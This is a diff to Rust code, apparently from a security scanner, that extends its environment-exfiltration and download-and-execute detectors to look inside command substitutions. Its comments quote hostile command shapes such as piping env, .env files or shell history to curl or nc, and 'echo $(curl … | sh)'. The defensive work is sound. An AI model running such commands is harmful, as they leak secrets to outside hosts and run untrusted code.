@@ -241,9 +241,18 @@ pub(super) const SENDERS: &[&str] = &[
 /// elsewhere (`env | curl -d @- URL`, `printenv | nc host 9`, `cat /proc/self/environ |
 /// nc host 9`, `cat .env | curl -d @- URL`, `history | nc host 9`).
 pub fn check_environment_sent(line: &str) -> Option<Finding> {
-    let parsed = lex::parse(line);
-    let cmds = &parsed.commands;
+    environment_sent_in(&lex::parse(line).commands, 0)
+}
+
+/// [`check_environment_sent`] over `cmds`, and the commands of their substitutions.
+fn environment_sent_in(cmds: &[lex::Simple], depth: usize) -> Option<Finding> {
+    if depth > MAX_DEPTH {
+        return None;
+    }
     cmds.iter().enumerate().find_map(|(i, c)| {
+        if let Some(f) = environment_sent_in(&c.substitutions, depth + 1) {
+            return Some(f);
+        }
         let name = basename(c.argv.first()?);
         let whole_env = (matches!(
             name.as_str(),
@@ -342,8 +351,23 @@ fn download_execute_at(line: &str, depth: usize, budget: &Cell<usize>) -> Option
         return None;
     }
     let parsed = lex::parse(line);
-    let cmds = &parsed.commands;
+    download_executed_in(&parsed.commands, depth, budget)
+}
+
+/// The download-and-run shapes among `cmds`, and among the commands of their substitutions
+/// (`echo $(curl … | sh)`, fish's `echo (curl … | sh)`), which run as any other.
+fn download_executed_in(
+    cmds: &[lex::Simple],
+    depth: usize,
+    budget: &Cell<usize>,
+) -> Option<Finding> {
+    if depth > MAX_DEPTH {
+        return None;
+    }
     for (i, c) in cmds.iter().enumerate() {
+        if let Some(f) = download_executed_in(&c.substitutions, depth + 1, budget) {
+            return Some(f);
+        }
         for inner in look_through(c).shell_lines {
             if let Some(f) = download_execute_at(&inner, depth + 1, budget) {
                 return Some(f);
